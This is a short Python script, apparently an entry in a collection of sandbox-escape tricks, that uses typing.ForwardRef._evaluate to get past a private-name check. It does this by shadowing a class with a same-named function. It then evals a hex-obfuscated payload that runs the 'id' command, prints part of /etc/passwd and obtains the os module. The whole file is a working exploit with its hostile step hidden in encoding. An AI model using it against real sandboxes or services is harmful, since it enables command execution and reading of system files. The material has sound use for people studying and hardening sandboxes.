# source: typing.ForwardRef._evaluate (eval of annotation string), CPython typing.py; pyjail "typing ForwardRef eval" trick
# family: private-name rule trusts "object of a script class" by name; a def with the class's name returns a library object -> its private methods
# goal: eval of run-time string with builtins (id, /etc/passwd, os module)
import typing

code = bytes.fromhex("696e74206966207072696e74285f5f696d706f72745f5f282773756270726f6365737327292e72756e285b276964275d2c636170747572655f6f75747075743d547275652c746578743d54727565292e7374646f75742c206f70656e28272f6574632f70617373776427292e7265616428295b3a3132305d2c205f5f696d706f72745f5f282773797327292e6d6f64756c65735b276f73275d2920656c736520696e74").decode()


class Ref:
    def _evaluate(self, g, l, guard):
        return None


def Ref():
    return typing.get_args(typing.List[code])[0]


r = Ref()
r._evaluate({}, {}, frozenset())
